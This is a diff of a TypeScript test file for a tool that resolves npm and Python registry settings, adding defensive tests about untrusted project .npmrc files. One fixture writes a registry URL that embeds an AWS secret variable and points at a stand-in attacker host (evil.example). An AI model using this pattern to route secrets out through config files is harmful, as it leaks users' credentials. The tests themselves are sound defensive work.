@@ -1,6 +1,17 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: as npm's files write it
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { test } from 'node:test';
 import { findNpm } from '../src/install/npm-program.ts';
 import { npmRegistry, pythonIndex, type RegistryPlaces } from '../src/install/registry.ts';
@@ -24,7 +35,9 @@ function npm(
   scope: string | null = null,
 ) {
   const found = npmRegistry(scope, places(files, environment));
-  return found.ok ? found.value : { url: found.fault.message, reach: [], hasCredentials: false };
+  return found.ok
+    ? found.value
+    : { url: found.fault.message, reach: [], hasCredentials: false, namedBy: null };
 }
 
 const PROJECT = '/home/me/project/.npmrc';
@@ -82,6 +95,7 @@ test('credentials are seen and not taken', () => {
     url: 'https://a.example/npm/',
     reach: [{ host: 'a.example', port: 443 }],
     hasCredentials: true,
+    namedBy: null,
   });
   const token = (host: string) => ({
     [USER]: `registry=https://a.example/npm/\n//${host}:_authToken=secret`,
@@ -102,9 +116,66 @@ test('a variable in a file is replaced, and what is no http address is refused',
     assert.match(npm({ [USER]: `registry=${bad}` }).url, /no http address/);
 });
 
+test('a file of the folder is given no variable, and what it names is marked as its word', () => {
+  const secret = { AWS_SECRET: 'hunter2' };
+  const file = 'registry=https://evil.example/${AWS_SECRET}/\n';
+  assert.match(npm({ [PROJECT]: file }, secret).url, /holds a variable of your environment/);
+  assert.equal(npm({ [USER]: file }, secret).url, 'https://evil.example/hunter2/');
+  const plain = npmRegistry(null, places({ [PROJECT]: 'registry=https://team.example/' }));
+  assert.deepEqual(plain.ok && plain.value.namedBy, {
+    path: PROJECT,
+    text: 'registry=https://team.example/',
+  });
+  const own = npmRegistry(null, places({ [USER]: 'registry=https://mine.example/' }));
+  assert.equal(own.ok && own.value.namedBy, null);
+  const home = npmRegistry(null, {
+    ...places({ [USER]: 'registry=https://mine.example/' }),
+    folder: '/home/me',
+  });
+  assert.equal(
+    home.ok && home.value.namedBy,
+    null,
+    'the home’s file is the user’s, wherever the command runs',
+  );
+});
+
+test('what npm puts into variables out of the folder’s file counts as the file’s word', () => {
+  const file = 'registry=https://evil.example/${AWS_SECRET}/\nuserconfig=/home/me/project/more\n';
+  const more = { '/home/me/project/more': 'registry=https://evil.example/' };
+  const expanded = {
+    npm_execpath: '/opt/n/lib/node_modules/npm/bin/npm-cli.js',
+    npm_config_registry: 'https://evil.example/hunter2/',
+    npm_config_userconfig: '/home/me/project/more',
+    npm_config_local_prefix: '/home/me/project',
+  };
+  assert.match(npm({ [PROJECT]: file, ...more }, expanded).url, /holds a variable of your environment/);
+  const above = { ...expanded, npm_config_local_prefix: '/home/me/above' };
+  assert.equal(npm({ '/home/me/above/.npmrc': file, ...more }, above).url, 'https://public.example/');
+  const typed = { npm_config_registry: 'https://mine.example/' };
+  assert.equal(npm({ [PROJECT]: file }, typed).url, 'https://mine.example/', 'without npm, the user set it');
+  const mine = { ...typed, npm_execpath: expanded.npm_execpath };
+  assert.equal(npm({}, mine).url, 'https://mine.example/');
+});
+
+test('a program of the current folder is not taken for the npm of this machine', (context) => {
+  const root = mkdtempSync(join(tmpdir(), 'cordon-npm-'));
+  context.after(() => rmSync(root, { recursive: true, force: true }));
+  for (const folder of ['clone/node_modules', 'opt']) {
+    mkdirSync(join(root, folder, 'npm/bin'), { recursive: true });
+    mkdirSync(join(root, folder, '.bin'));
+    writeFileSync(join(root, folder, 'npm/package.json'), '{"name":"npm"}');
+    writeFileSync(join(root, folder, 'npm/bin/npm-cli.js'), '');
+    symlinkSync('../npm/bin/npm-cli.js', join(root, folder, '.bin/npm'));
+  }
+  const path = `${join(root, 'clone/node_modules/.bin')}:${join(root, 'opt/.bin')}`;
+  assert.equal(findNpm(path), realpathSync(join(root, 'opt/npm')));
+});
+
 function python(files: Record<string, string>, environment: Record<string, string> = {}) {
   const found = pythonIndex(places(files, environment));
-  return found.ok ? found.value : { url: found.fault.message, reach: [], hasCredentials: false };
+  return found.ok
+    ? found.value
+    : { url: found.fault.message, reach: [], hasCredentials: false, namedBy: null };
 }
 
 test('the index of Python is that of uv or pip, and further indexes are not used', () => {
@@ -116,6 +187,7 @@ test('the index of Python is that of uv or pip, and further indexes are not used
     url: 'https://a.example/simple/',
     reach: [{ host: 'a.example', port: 443 }],
     hasCredentials: false,
+    namedBy: null,
   });
   assert.equal(python(file, { PIP_INDEX_URL: 'https://c.example/' }).url, 'https://c.example/');
   assert.equal(python(file, { UV_DEFAULT_INDEX: 'https://d.example/' }).url, 'https://d.example/');
